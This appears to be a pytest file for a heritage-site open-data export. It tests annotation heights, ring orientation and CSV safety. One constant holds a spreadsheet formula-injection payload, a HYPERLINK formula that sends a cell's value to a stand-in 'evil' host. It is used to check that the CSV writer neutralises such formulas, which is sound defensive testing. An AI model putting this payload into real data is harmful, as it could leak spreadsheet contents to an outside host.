"""Open data as others read it: annotations' heights, rings and cells, and plans that lie across the antimeridian."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from datetime import date
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
import shapely

from heritage.model.documents import View
from heritage.model.release import AnnotationEntry, Box, EpochEntry, MonumentEntry, Placement
from heritage.pipeline.ground import read_ground
from heritage.pipeline.opendata.catalogue import Edition
from heritage.pipeline.opendata.write import write_open_data
from heritage.store import Store
from heritage.text.site import load_site

SQUARE = ((0.0, 0.0, 5.0), (4.0, 0.0, 5.0), (4.0, 4.0, 5.0), (0.0, 4.0, 5.0))
HUE = "EPSG:32648"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def area(
    id: str, vertices: Sequence[tuple[float, float, float]], title: str = "Spalled stone"
) -> AnnotationEntry:
    return AnnotationEntry(
        id=id, title={"en": title}, html={}, position_m=(2.0, 2.0, 5.0), shape="area", vertices_m=tuple(vertices)
    )  # fmt: skip


def gate(annotations: Sequence[AnnotationEntry]) -> MonumentEntry:
    """A monument that stands at the site's origin, with ``annotations``."""
    box = Box(min=(0.0, 0.0, 0.0), max=(4.0, 4.0, 6.0))
    view = View(eye_m=(0.0, -20.0, 3.0), target_m=(0.0, 0.0, 3.0))
    identity = tuple(float(v) for v in np.eye(4).ravel())
    epoch = EpochEntry(
        id="2024", title={}, captured=None, method="laser", tileset="t.json", bounds=box, points=1, triangles=1
    )  # fmt: skip
    return MonumentEntry(
        id="gate", title={"en": "Gate"}, html={}, reference_epoch="2024", bounds=box, view=view, epochs=(epoch,),
        placement=Placement(method="footprint", settled=True, site_from_monument=identity, scale=1.0, heading_deg=0.0),
        annotations=tuple(annotations),
    )  # fmt: skip


def written(
    root: Path,
    annotations: Sequence[AnnotationEntry] = (),
    *,
    heights: str = "ellipsoidal",
    crs: str = HUE,
    plans: Sequence[shapely.Geometry] = (shapely.box(775_000, 1_821_000, 775_012, 1_821_008),),
) -> Path:
    """The folder ``data`` of a release with one monument and ``plans``, which are in ``crs``."""
    table = gpd.GeoDataFrame({"name": [str(k) for k in range(len(plans))]}, geometry=list(plans), crs=crs)
    table.to_file(root / "plans.gpkg", layer="plans", driver="GPKG")
    (root / "site.yaml").write_text(
        f"title: {{en: City}}\nlanguages: [en]\ncrs: {crs}\nheights: {heights}\n"
        "footprints: {source: plans.gpkg, name: name, id: name}\nrights: {licence: CC0-1.0, holder: A}\n"
    )
    loaded, store = load_site(root), Store(root)
    with store.writer("test"), store.release("0001-a") as folder:
        edition = Edition("0001-a", date(2026, 11, 28))
        write_open_data(folder, loaded, read_ground(loaded), [gate(annotations)], edition)
    return store.release_path("0001-a") / "data"


@pytest.mark.parametrize(("heights", "axes"), [("ellipsoidal", 3), ("orthometric", 2), ("unknown", 2)])
def test_a_third_coordinate_is_above_the_ellipsoid_and_a_column_says_what_a_height_is_above(
    tmp_path: Path, heights: str, axes: int
) -> None:
    data = written(tmp_path, [area("spall", SQUARE)], heights=heights)
    (feature,) = json.loads((data / "annotations.geojson").read_bytes())["features"]
    (row,) = csv.DictReader(io.StringIO((data / "annotations.csv").read_text("utf-8-sig")))

    assert {len(place) for place in feature["geometry"]["coordinates"][0]} == {axes}
    assert feature["properties"]["heights"] == row["heights"] == heights
    assert feature["properties"]["height_m"] == float(row["height_m"]) == pytest.approx(5, abs=0.01)


def test_areas_are_counter_clockwise_and_their_local_shapes_in_the_same_order(tmp_path: Path) -> None:
    data = written(tmp_path, [area("with", SQUARE), area("against", SQUARE[::-1])])
    features = json.loads((data / "annotations.geojson").read_bytes())["features"]

    for feature in features:
        ring = np.array(feature["geometry"]["coordinates"][0])
        local = shapely.get_coordinates(shapely.from_wkt(feature["properties"]["local_m"]))
        assert shapely.LinearRing(ring).is_ccw
        # Degrees east and north of the corner at the origin, in which the gate's metres run.
        east_north = (ring - ring[(local == 0).all(axis=1)][0])[:, :2]
        assert ((east_north > 1e-6) == (local > 0)).all()


@pytest.mark.parametrize("shape", ["area", "line", "point"])
def test_no_cell_of_the_table_is_computed(tmp_path: Path, shape: str) -> None:
    note = area("link", SQUARE, FORMULA).model_copy(update={"shape": shape})
    content = (written(tmp_path, [note]) / "annotations.csv").read_bytes()

    assert content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert row["title_en"] == f"'{FORMULA}"
    assert row["x_m"] == "2.0"
